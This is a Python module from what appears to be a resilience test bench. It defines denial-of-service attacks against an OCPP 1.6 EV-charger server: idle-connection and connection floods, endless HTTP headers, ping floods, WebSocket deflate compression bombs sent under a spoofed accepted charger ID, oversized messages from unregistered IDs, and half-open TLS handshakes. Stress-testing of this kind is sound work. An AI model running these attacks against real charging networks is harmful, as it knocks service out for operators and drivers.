"""Attacks on the ports of the chargers."""

import asyncio
import contextlib
import itertools
import zlib

from bench.attacks.wire import GONE, PACKED, PING, Target, by_many, connected, repeated, websocket

OCPP = "Sec-WebSocket-Protocol: ocpp1.6"
DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover"
BOOT = b'[2,"%d","BootNotification",{"chargePointVendor":"V","chargePointModel":"M"}]'
KNOWN = "/BENCH-VICTIM"  # a charger the house has accepted, posed as


async def silence(target: Target) -> None:
    """Open 1,000 connections and say nothing."""

    async def one() -> None:
        async with connected(target.ocpp) as (reader, _writer):
            await reader.read()

    await by_many(1_000, lambda _number: repeated(target, one, 0.5))


async def arrivals(target: Target) -> None:
    """Open connections as fast as it goes, and hang up."""

    async def one() -> None:
        async with connected(target.ocpp):
            pass

    await by_many(20, lambda _number: repeated(target, one, 0.0))


async def heads(target: Target) -> None:
    """Send headers without an end."""

    async def one() -> None:
        async with connected(target.ocpp) as (_reader, writer):
            writer.write(b"GET /X HTTP/1.1\r\n")
            for number in itertools.count():
                writer.write(b"X-%d: " % number + b"x" * 8_000 + b"\r\n")
                await writer.drain()

    await by_many(50, lambda _number: repeated(target, one))


async def pings(target: Target) -> None:
    """Send nothing but pings, and read no answer."""

    async def one() -> None:
        async with websocket(target.ocpp, KNOWN, OCPP) as socket:
            while target.goes_on:
                await socket.send(b"", PING)

    await by_many(10, lambda _number: repeated(target, one))


async def bombs(target: Target) -> None:
    """Send messages of a kilobyte that unpack to nearly a megabyte, in the name of an accepted charger."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = (packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]

    async def one() -> None:
        async with websocket(target.ocpp, KNOWN, OCPP, DEFLATE) as socket:
            while target.goes_on:
                await socket.send(bomb, reserved=PACKED)

    await by_many(10, lambda _number: repeated(target, one))


async def strangers(target: Target) -> None:
    """Let 20 chargers nobody has accepted say as much as they can."""

    async def one(number: int) -> None:
        async with websocket(target.ocpp, f"/STRANGER-{number}", OCPP) as socket:
            for each in itertools.count():
                await socket.send(b'[2,"%d","DataTransfer",{"vendorId":"%b"}]' % (each, b"x" * 15_000))

    await by_many(20, lambda number: repeated(target, lambda: one(number)))


async def names(target: Target) -> None:
    """Come with a new name each time, and stay."""
    numbers = itertools.count()

    async def one() -> None:
        async with websocket(target.ocpp, f"/MADE-UP-{next(numbers)}", OCPP) as socket:
            await socket.send(BOOT % 1)
            await asyncio.sleep(2)

    await by_many(100, lambda _number: repeated(target, one))


async def returns(target: Target) -> None:
    """Come back with the same five names as fast as it goes."""

    async def one(number: int) -> None:
        async with websocket(target.ocpp, f"/RETURNING-{number}", OCPP) as socket:
            await socket.send(BOOT % 1)

    await by_many(5, lambda number: repeated(target, lambda: one(number), 0.0))


async def handshakes(target: Target) -> None:
    """Begin TLS handshakes, half of them without going on."""
    hello = bytes.fromhex("1603010200010001fc0303") + bytes(500)

    async def one(number: int) -> None:
        async with connected(target.tls) as (reader, writer):
            if number % 2:
                writer.write(hello)
            with contextlib.suppress(*GONE):
                async with asyncio.timeout(3):
                    await reader.read()

    await by_many(300, lambda number: repeated(target, lambda: one(number)))


ATTACKS = {
    each.__name__: each for each in (silence, arrivals, heads, pings, bombs, strangers, names, returns, handshakes)
}
